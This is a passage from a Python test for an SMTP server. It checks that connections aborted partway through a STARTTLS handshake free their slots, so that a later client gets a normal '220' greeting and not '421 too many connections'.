            with RawClient(address) as client:
                client.greeting_and_ehlo()
                client.send(b"STARTTLS\r\n")
                assert client.reply().startswith(b"220 ")
                client.send(HALF_A_CLIENT_HELLO)
                client.reset()
            handler.wait_for_disconnects(count)
        # A slot is freed just after the disconnect hook: try (bounded) until
        # the greeting is not "too many connections".
        greeting = b""
        for _ in range(30):
            with RawClient(address) as client:
                greeting = client.reply()
            if not greeting.startswith(b"421"):
                break
            time.sleep(0.1)
        assert greeting.startswith(b"220 "), greeting
